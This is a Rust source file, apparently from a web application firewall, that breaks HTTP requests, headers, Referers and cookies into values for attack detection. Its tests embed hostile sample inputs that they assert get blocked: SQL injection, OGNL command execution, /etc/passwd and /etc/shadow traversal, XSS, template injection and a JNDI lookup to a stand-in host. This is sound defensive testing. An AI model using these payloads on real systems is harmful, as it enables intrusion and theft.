//! A request or response, taken apart into values.

mod body;
mod joined;
mod leaves;
mod page_scripts;
mod protobuf;
mod referer;
mod session;
mod uploads;
mod windows;

pub use body::Parsed;
pub use protobuf::MessageNames;
pub use uploads::{Unreadable, Upload};

use portcullis_http::body::{Arg, BodySink as _, overrides_url, parse_query_twice, path_parameters};
use portcullis_http::cookie::{CookieFormat, parse as parse_cookies};
use portcullis_types::Span;

use crate::decode::hex_digit;
use crate::detectors::path::{self, QUERY_PATH, bypass};
use crate::issued::Issued;
use crate::memo::{Field, Known};
use crate::odd_name::is_odd_name;
use crate::{Analysis, ByteGroups, Class, Detectors, Location, Place};
use joined::all_arguments;
use leaves::Leaves;

/// Fields called Referer that may be softened, see `referer.rs`; there is one, and the others are looked at
/// like any field.
const REFERERS_MAX: usize = 2;

/// Names and values of arguments, in order.
pub type Arguments<'a> = dyn Iterator<Item = (&'a [u8], &'a [u8])> + 'a;

/// Bytes of a response's header field without which it is not looked at.
const HEADER_BYTES_MIN: usize = 12;

/// The name of a file that is stored at the path of `target`. Servers that cut off a slash at its end run it
/// all the same.
fn last_segment(target: &[u8]) -> &[u8] {
    let path = &target[..memchr::memchr2(b'?', b'#', target).unwrap_or(target.len())];
    let end = path.iter().rposition(|&b| b != b'/').map_or(0, |at| at + 1);
    &path[memchr::memrchr(b'/', &path[..end]).map_or(0, |at| at + 1)..end]
}

impl Analysis {
    /// Looks at the request line and the header fields. `fields` are names and values in order.
    pub fn request_head<'h>(
        &mut self,
        detectors: &Detectors,
        method: &[u8],
        target: &[u8],
        fields: impl Iterator<Item = (&'h [u8], &'h [u8])>,
    ) {
        self.parsed_request_head(detectors, method, target, None, fields);
    }

    /// The same where another parser has taken the query apart: `arguments` are all that
    /// [`parse_query_twice`] finds in it.
    pub fn parsed_request_head<'h>(
        &mut self,
        detectors: &Detectors,
        method: &[u8],
        target: &[u8],
        arguments: Option<&mut Arguments<'_>>,
        fields: impl Iterator<Item = (&'h [u8], &'h [u8])>,
    ) {
        if method.len() > 16 || !method.iter().all(u8::is_ascii_alphabetic) {
            self.look(detectors, Location::of(Place::Method), method);
        }
        self.stores = method == b"PUT";
        if self.stores {
            self.stored_name.extend_from_slice(last_segment(target));
        }
        self.work.allow(method.len() + target.len());
        let memo = self.memo();
        let mut known = memo.of(detectors);
        self.known_target(detectors, known.as_deref_mut(), target, arguments);
        self.known_fields(detectors, known.as_deref_mut(), fields);
    }

    /// Looks at header fields of a request, or at fields after its body.
    pub fn request_fields<'h>(
        &mut self,
        detectors: &Detectors,
        fields: impl Iterator<Item = (&'h [u8], &'h [u8])>,
    ) {
        let memo = self.memo();
        let mut known = memo.of(detectors);
        self.known_fields(detectors, known.as_deref_mut(), fields);
    }

    fn known_fields<'h>(
        &mut self,
        detectors: &Detectors,
        mut known: Option<&mut Known>,
        fields: impl Iterator<Item = (&'h [u8], &'h [u8])>,
    ) {
        let (mut host, mut referers): (&[u8], [&[u8]; REFERERS_MAX]) = (b"", [b""; REFERERS_MAX]);
        for (name, value) in fields {
            self.work.allow(name.len() + value.len());
            if name.eq_ignore_ascii_case(b"host") {
                host = value;
            }
            let is_referer = name.eq_ignore_ascii_case(b"referer") && memchr::memchr(b'?', value).is_some();
            let free = referers.iter_mut().find(|referer| is_referer && referer.is_empty());
            if name.eq_ignore_ascii_case(b"cookie") {
                self.cookies(detectors, value);
            } else if let Some(free) = free {
                // Whose page it is tells the host, which may follow.
                *free = value;
            } else {
                let field = Field { place: Place::Header, name, value };
                self.look_once(detectors, known.as_deref_mut(), field, |analysis| {
                    analysis.field(detectors, name, value)
                });
            }
        }
        for value in referers.into_iter().take_while(|value| !value.is_empty()) {
            self.referer(detectors, host, value);
        }
    }

    /// Looks at a Referer with a query. What a visitor typed into a text or search field of this site, or
    /// asked a search engine, stands in it again, and is no attack of theirs: there a statement, a path or a
    /// command says nothing. What runs in a program that shows or logs the Referer (scripts, lookups,
    /// templates, code) counts as anywhere.
    fn referer(&mut self, detectors: &Detectors, host: &[u8], value: &[u8]) {
        let location = Location::new(Place::Header, b"Referer");
        let Some(referer::Parts { page, query, fragment }) = referer::text_query(host, value) else {
            return self.look(detectors, location, value);
        };
        if !fragment.is_empty() {
            self.look(detectors, location, fragment);
        }
        let mut plain = page.to_vec();
        for pair in query.split(|&b| b == b'&') {
            let name = &pair[..memchr::memchr(b'=', pair).unwrap_or(pair.len())];
            let text = pair.get(name.len() + 1..).unwrap_or_default();
            plain.push(b'&');
            if !referer::takes_text(host, value, name) {
                plain.extend_from_slice(pair);
                continue;
            }
            // Nobody types a name, whatever purpose it seems to have.
            plain.extend_from_slice(name);
            let before = self.values_len();
            self.look(detectors, location, text);
            self.excuse_from(before, &[Class::Sqli, Class::Path, Class::Command], "referer-text");
        }
        self.look(detectors, location, &plain);
    }

    fn field(&mut self, detectors: &Detectors, name: &[u8], value: &[u8]) {
        self.look(detectors, Location::new(Place::Header, name), value);
        // Some servers take the target from there.
        if overrides_url(name) {
            self.target(detectors, value);
        }
        // WebDAV moves and copies a file to there.
        if name.eq_ignore_ascii_case(b"destination") {
            self.look(detectors, Location::of(Place::FileName), last_segment(value));
        }
        if is_odd_name(name) {
            self.look(detectors, Location::new(Place::HeaderName, b""), name);
        }
    }

    /// Looks at the header fields of a response. Short values have no room for what one tells.
    pub fn response_head<'h>(
        &mut self,
        detectors: &Detectors,
        fields: impl Iterator<Item = (&'h [u8], &'h [u8])>,
    ) {
        let memo = self.memo();
        let mut known = memo.of(detectors);
        for (name, value) in fields.filter(|(_, value)| value.len() >= HEADER_BYTES_MIN) {
            self.work.allow(value.len());
            let field = Field { place: Place::ResponseHeader, name, value };
            self.look_once(detectors, known.as_deref_mut(), field, |analysis| {
                analysis.look(detectors, Location::new(Place::ResponseHeader, name), value);
            });
        }
    }

    /// Looks at a request target: the path, its segments, the query string and its parameters.
    pub(crate) fn target(&mut self, detectors: &Detectors, target: &[u8]) {
        self.known_target(detectors, None, target, None);
    }

    /// The same where something is known of paths, and the parameters are these `arguments`.
    fn known_target(
        &mut self,
        detectors: &Detectors,
        known: Option<&mut Known>,
        target: &[u8],
        arguments: Option<&mut Arguments<'_>>,
    ) {
        // No client sends a fragment: what stands after `#` is for the page, and many servers take it so.
        let (path, query) = match memchr::memchr(b'?', target) {
            Some(at) => (&target[..at], Some(&target[at + 1..])),
            None => (target, None),
        };
        let groups = ByteGroups::of(path);
        // Those with numbers are of one thing among many, or secret.
        let known = known.filter(|_| !groups.has(b'0'));
        let field = Field { place: Place::Path, name: b"", value: path };
        self.look_once(detectors, known, field, |analysis| analysis.path(detectors, path, groups));
        if memchr::memchr(b';', path).is_some() {
            path_parameters(path, &all_arguments(), &mut Leaves::new(self, detectors, Place::Query));
        }
        let Some(query) = query else { return };
        self.look(detectors, Location::of(Place::QueryString), query);
        if bypass::is_query_path(path, query) {
            self.note(detectors, Location::of(Place::QueryString), path::KINDS, QUERY_PATH, query);
        }
        // Browsers encode them: who sends a tag or a quote as it is may mean all of the query, whatever `&`
        // and `=` are in it.
        let is_whole = || memchr::memchr2(b'\'', b'"', query).is_some() && !is_pairs(query);
        if memchr::memchr(b'<', query).is_some() || is_whole() {
            self.look(detectors, Location::of(Place::Query), query);
        }
        let mut sink = Leaves::new(self, detectors, Place::Query);
        match arguments {
            Some(arguments) => {
                for (name, value) in arguments {
                    sink.arg(Arg { name, value, raw_value: Span::default() });
                }
            }
            None => drop(parse_query_twice(query, b'&', &all_arguments(), &mut sink)),
        }
        self.joined(detectors, Place::Query, query);
    }

    /// Looks at a path and its segments.
    fn path(&mut self, detectors: &Detectors, path: &[u8], groups: ByteGroups) {
        self.look_grouped(detectors, Location::of(Place::Path), path, groups);
        if !is_odd_path(groups) && !may_be_coded(path) {
            return;
        }
        let mut end = 0;
        let mut is_first = true;
        for segment in path.split(|&b| b == b'/') {
            let start = end;
            end += segment.len() + 1;
            if !is_odd_path(ByteGroups::of(segment)) && !may_be_coded(segment) {
                continue;
            }
            self.look(detectors, SEGMENT, segment);
            // A value with slashes of its own (a URL, markup) goes on after them.
            if is_first && end < path.len() {
                self.look(detectors, SEGMENT, &path[start..]);
            }
            is_first = false;
        }
    }

    fn cookies(&mut self, detectors: &Detectors, header: &[u8]) {
        let found = parse_cookies(header, CookieFormat::V0, None);
        let mut issued = Issued::new(header, self.issuer.take());
        let mut is_cut = found.nameless > 0;
        let (mut is_quoted, mut is_parted) = (false, false);
        for (number, cookie) in found.cookies.iter().enumerate() {
            let (name, value) = (cookie.name.of(header), cookie.value.of(header));
            // Both were set by one response, so that they stand side by side.
            let mut beside =
                [number.wrapping_sub(1), number + 1].into_iter().filter_map(|at| found.cookies.get(at));
            let signature = beside.find(|other| other.name.of(header).strip_suffix(b".sig") == Some(name));
            let signature = signature.map(|signature| signature.value.of(header));
            let before = self.values_len();
            match session::signed_document(value, signature) {
                Some(document) => self.session(detectors, name, &document),
                None => self.look(detectors, Location::new(Place::Cookie, name), value),
            }
            if is_odd_name(name) {
                self.look(detectors, Location::of(Place::Name), name);
            }
            self.excuse_issued(before, &mut issued, (cookie.name.start, cookie.value.end));
            // A semicolon ends a cookie also in the middle of a tag, a quote or a command line: `a=x;id`.
            let has_value =
                memchr::memchr(b'=', &header[cookie.name.end as usize..]).is_some_and(|at| at == 0);
            let groups = ByteGroups::of(value);
            // Servers of Java and Python read a value in quotes to the second one.
            let is_open = value.starts_with(b"\"") && (value.len() == 1 || !value.ends_with(b"\""));
            is_cut |= !has_value || is_open || groups.intersects(TEXT_SIGNS);
            is_quoted |= groups.has(b'\'');
            // So does its first equals sign: `%3C%25=7*7 %25%3E`.
            is_cut |= has_value && is_odd_name(name);
            is_parted |= !name.iter().all(is_usual_in_name) || name.contains(&b'[');
            is_cut |= groups.has(b'\'') && (value.windows(2).any(|two| two == b"/*" || two == b"--"));
        }
        // A quote that a semicolon cut goes on in what is no cookie.
        if is_cut || is_quoted && is_parted {
            self.cut_cookies(detectors, Location::of(Place::Cookie), &mut issued, (header, 0));
            // The value that goes on after its semicolon, from where it begins.
            let goes_on = |rest: &[u8]| {
                let piece =
                    rest.get(1..).unwrap_or_default().split(|&b| b == b';').next().unwrap_or_default();
                !piece.trim_ascii().is_empty() && memchr::memchr(b'=', piece).is_none()
            };
            let cut = found.cookies.iter().find(|cookie| goes_on(&header[cookie.value.end as usize..]));
            if let Some(cookie) = cut.filter(|cookie| cookie.name.start > 0) {
                let location = Location::new(Place::Cookie, cookie.name.of(header));
                self.cut_cookies(detectors, location, &mut issued, (header, cookie.value.start as usize));
            }
        }
    }

    /// Looks at a header of cookies from `start` on as one text; where something is found in it and the site
    /// has issued cookies of it, at the rest of it.
    fn cut_cookies(
        &mut self,
        detectors: &Detectors,
        location: Location<'_>,
        issued: &mut Issued<'_>,
        (header, start): (&[u8], usize),
    ) {
        let before = self.values_len();
        self.look(detectors, location, &header[start..]);
        if let Some(rest) = self.rest_of_issued(before, issued, start) {
            self.look(detectors, location, &rest);
        }
    }
}

/// True if a path of such bytes is to be taken apart: it has something besides letters, digits and the usual
/// signs.
fn is_odd_path(groups: ByteGroups) -> bool {
    const USUAL: ByteGroups = ByteGroups::of(b"az09/-_.~");
    !groups.is_within(USUAL)
}

/// The place of a path's segment.
const SEGMENT: Location<'static> = Location { place: Place::PathSegment, name: b"" };

/// A plain name and an equals sign stand after each `&`: nothing cut a value in two.
fn is_pairs(query: &[u8]) -> bool {
    query.split(|&b| b == b'&').all(|pair| {
        let mut name = &pair[..memchr::memchr(b'=', pair).unwrap_or(0)];
        let is_named = !name.is_empty();
        while let [first, rest @ ..] = name {
            // `%24filter`, `a%5Bb%5D`: as old clients write them.
            let coded = match name {
                [b'%', high, low, ..] => hex_digit(*high)
                    .zip(hex_digit(*low))
                    .map(|(high, low)| ((high << 4 | low) as u8, &name[3..])),
                _ => None,
            };
            let (byte, rest) = coded.unwrap_or((*first, rest));
            if !is_usual_in_name(&byte) {
                return false;
            }
            name = rest;
        }
        is_named
    })
}

/// `$filter`, `filters[$or][0][title]`
fn is_usual_in_name(b: &u8) -> bool {
    b.is_ascii_alphanumeric() || b"_-.:[]$@".contains(b)
}

/// Signs that cookies do not have, and texts in which a semicolon is no end do. Quotes stand in names of
/// people and in what some banners keep.
const TEXT_SIGNS: ByteGroups = ByteGroups::of(b"<>`(|$&;\\");

/// Letters of both cases and nothing that Base64 does not have: perhaps a text in it, which no sign shows.
fn may_be_coded(path: &[u8]) -> bool {
    let has = |is: fn(&u8) -> bool| path.iter().any(is);
    path.len() >= CODED_BYTES_MIN
        && has(u8::is_ascii_uppercase)
        && has(u8::is_ascii_lowercase)
        && path.iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'-' | b'_' | b'+' | b'='))
}

/// Shorter ones are words.
const CODED_BYTES_MIN: usize = 8;

#[cfg(test)]
mod tests {
    use std::sync::LazyLock;

    use super::*;
    use crate::Level;

    static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);

    /// The class that blocks such a request at `balanced`, or nothing.
    fn verdict(target: &str, cookie: &str) -> &'static str {
        let mut analysis = Analysis::new();
        let fields = [(&b"Cookie"[..], cookie.as_bytes())];
        analysis.request_head(&DETECTORS, b"GET", target.as_bytes(), fields.into_iter());
        let worst = analysis.worst(&DETECTORS, Level::Balanced);
        worst.filter(|worst| worst.blocks(Level::Balanced)).map_or("", |worst| worst.class.name())
    }

    #[test]
    fn number_signs_end_nothing() {
        assert_eq!(verdict("/?a=1#&id=1'+or+1=1--+-", ""), "sqli");
        let ognl = "/${(#a=@java.lang.Runtime@getRuntime().exec(%22id%22)).(#b=#a.getInputStream())}/";
        assert_ne!(verdict(ognl, ""), "");
        assert_ne!(verdict("/login?redirect:${#a=new%20java.lang.ProcessBuilder(%22id%22).start()}", ""), "");
        for target in ["/docs/page#section-2", "/app?tab=1#/users/o'brien", "/wiki/C#"] {
            assert_eq!(verdict(target, ""), "", "{target}");
        }
    }

    #[test]
    fn queries_with_quotes() {
        // `&` of the value cuts it in two.
        assert_eq!(verdict("/?id=x'&&'1'='1", ""), "sqli");
        assert_eq!(verdict("/?id=x'+or+'1'='1&page=2", ""), "sqli");
        let jql = "/search?jql=text%20~%20%22can't%20log%20in%22%20AND%20status%20in%20(Open,%20'In%20Progress')&fields=*all";
        assert_eq!(verdict(jql, ""), "");
        let odata =
            "/a?%24filter=startswith(displayName%2C'Al')%20or%20startswith(mail%2C'Al')&%24count=true";
        assert_eq!(verdict(odata, ""), "");
        assert_eq!(verdict("/a?cd%5Bsearch_string%5D=5'%20or%206'%20rug&ev=Search", ""), "");
        assert_eq!(verdict("/a?x%27=1&id=x'%20or%20'1'='1", ""), "sqli");
        for target in [
            "/a/MapServer/1/query?f=json&where=NAME%20LIKE%20'%25O''Brien%25'%20AND%20POP%20%3E%20100&outFields=*",
            "/a?where=STATUS%20IN%20('Open','Closed')%20OR%20STATUS%20IS%20NULL",
            "/a?filters[$or][0][author][$eq]=O'Brien&populate=*",
            "/gviz/tq?tqx=out:json&tq=select%20A,%20sum(B)%20where%20C%20=%20'x'%20group%20by%20A%20limit%2010",
            "/blog/it%E2%80%99s-a-%E2%80%9Ctest%E2%80%9D-%E2%80%93-really/",
        ] {
            assert_eq!(verdict(target, ""), "", "{target}");
        }
    }

    #[test]
    fn coded_segments() {
        // `<script>alert(1)</script>` and `;cat /etc/passwd`, padding or not.
        assert_eq!(verdict("/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", ""), "xss");
        assert_eq!(verdict("/a/O2NhdCAvZXRjL3Bhc3N3ZA==/b", ""), "command");
        for path in ["/Users/Ann/ProfileSettings", "/assets/index-DzYQ2bXk.js", "/v/dQw4w9WgXcQ", "/A/b"] {
            assert_eq!(verdict(path, ""), "", "{path}");
        }
    }

    #[test]
    fn cookies_that_a_semicolon_cuts() {
        assert_eq!(verdict("/", "sid=1; a=&#x66;ile:///etc/shadow"), "path");
        assert_eq!(verdict("/", "a=1;id"), "command");
        assert_eq!(verdict("/", "%3C%25=%207%20*%207%20%25%3E"), "template");
        assert_eq!(verdict("/", "a=<p style=\"x:1;y:2\" onmouseover=\"alert(1)\">"), "xss");
        assert_eq!(verdict("/", "id=1'; exec master..xp_cmdshell 'dir'--"), "sqli");
        assert_eq!(verdict("/", "id=\"x' union/*; b=*/select password from users-- \""), "sqli");
        assert_eq!(verdict("/", "id=1'; update users set admin=1--; b=2"), "sqli");
        for header in [
            "CookieConsent={stamp:'abc=='%2Cnecessary:true%2Cver:1}; name=O'Brien; lang=en",
            "x='abc'; y=it's; z='d'",
        ] {
            assert_eq!(verdict("/", header), "", "{header}");
        }
        for header in ["a=1; b=2; theme=dark", "sid=abc%3D; _ga=GA1.2.3.4", "flag; a=b", "v={\"a\":1}; id=5"]
        {
            assert_eq!(verdict("/", header), "", "{header}");
        }
    }

    /// The class that blocks a request of `/` at `a.example` with such a Referer, or nothing.
    fn referer(referer: &str) -> &'static str {
        let mut analysis = Analysis::new();
        // The host may follow.
        let fields = [(&b"Referer"[..], referer.as_bytes()), (b"Host", b"a.example")];
        analysis.request_head(&DETECTORS, b"GET", b"/", fields.into_iter());
        let worst = analysis.worst(&DETECTORS, Level::Balanced);
        worst.filter(|worst| worst.blocks(Level::Balanced)).map_or("", |worst| worst.class.name())
    }

    #[test]
    fn what_visitors_typed() {
        let typed = [
            "1'+or+'1'='1'+--+",
            "1+union+select+password+from+users",
            "%2E%2E/%2E%2E/%2E%2E/%2E%2E/etc/passwd",
            "x;cat+/etc/passwd",
        ];
        for text in typed {
            assert_eq!(referer(&format!("https://a.example/search?page=2&q={text}")), "", "{text}");
            assert_eq!(referer(&format!("https://www.google.com/search?q={text}&hl=en")), "", "{text}");
            assert_ne!(referer(&format!("https://b.example/search?q={text}")), "", "{text}");
            assert_ne!(referer(&format!("https://a.example/search?id={text}")), "", "{text}");
            assert_ne!(referer(&format!("https://a.example@b.example/?q={text}")), "", "{text}");
        }
        // What runs in a program that shows it, or looks it up.
        for text in [
            "<script>alert(1)</script>",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}{{self.__init__.__globals__}}",
        ] {
            assert_ne!(referer(&format!("https://a.example/search?q={text}")), "", "{text}");
            assert_ne!(referer(&format!("https://www.google.com/search?q={text}")), "", "{text}");
        }
        assert_eq!(referer("https://a.example/list?sort=name&page=2#top"), "");
        assert_ne!(referer("https://a.example/<script>alert(1)</script>?q=a"), "");
    }

    /// What is remembered of fields and paths changes nothing, whatever came before.
    #[test]
    fn fields_and_paths_that_come_again() {
        let heads: [&[(&str, &str)]; 4] = [
            &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("accept", "*/*"), ("x-page", "1 or 2")],
            &[
                ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
                ("accept", "1' or 1=1 -- "),
                ("x-page", "1 or 2"),
            ],
            &[("x-original-url", "/?id=1'+or+1=1--+-"), ("accept", "*/*")],
            &[("cookie", "a=1;id"), ("accept", "*/*"), ("authorization", "Bearer abc")],
        ];
        let targets = [
            "/",
            "/static/app.js?v=1",
            "/.git/config",
            "/.git/config?a=1'+or+1=1--+-",
            "/a/%2e%2e/%2e%2e/etc/passwd",
            "/index.php.bak;id=1'+or+'a'='a",
            "/search/<script>alert(document.cookie)</script>/UHl0aG9uIGNvZGU",
            "/orders/7001",
        ];
        let memo = crate::Memo::default();
        let look = |analysis: &mut Analysis, target: &str, head: &[(&str, &str)]| {
            let fields = head.iter().map(|(name, value)| (name.as_bytes(), value.as_bytes()));
            analysis.clear();
            analysis.request_head(&DETECTORS, b"GET", target.as_bytes(), fields.clone());
            analysis.response_head(&DETECTORS, fields);
            format!("{:?} {:?} {:?}", analysis.findings(), analysis.values(), analysis.work())
        };
        let mut found = 0;
        for round in 0..4 {
            for (head, target) in heads.iter().flat_map(|head| targets.map(|target| (head, target))) {
                let first = look(&mut Analysis::new(), target, head);
                found += usize::from(first.contains("left-behind"));
                let again = look(&mut Analysis::sharing(&memo), target, head);
                assert_eq!(again, first, "{round}: {target} {head:?}");
            }
        }
        assert!(found > 0, "a path with findings is among them");
        let mut known = memo.of(&DETECTORS).expect("nobody else has it");
        let path = Field { place: Place::Path, name: b"", value: b"/.git/config" };
        assert!(matches!(known.find(path), portcullis_types::Sight::Known(_)));
        let numbered = Field { value: b"/orders/7001", ..path };
        assert!(!matches!(known.find(numbered), portcullis_types::Sight::Known(_)));
    }
}
